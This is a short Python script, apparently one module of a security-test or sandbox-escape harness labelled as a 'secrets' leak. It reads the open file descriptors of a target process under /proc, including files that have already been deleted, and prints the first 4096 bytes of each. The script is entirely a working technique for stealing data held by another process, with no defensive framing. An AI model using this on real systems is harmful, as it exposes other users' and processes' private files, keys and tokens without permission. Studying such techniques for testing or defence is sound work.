"""Reads what the caller has open, also when the file has no name any more."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain

import glob
import os

for path in glob.glob(f"/proc/{SCENE['holder']}/fd/*"):
    if not os.path.isfile(path):
        continue
    try:
        print(open(path, "rb").read(4096))
    except OSError:
        pass
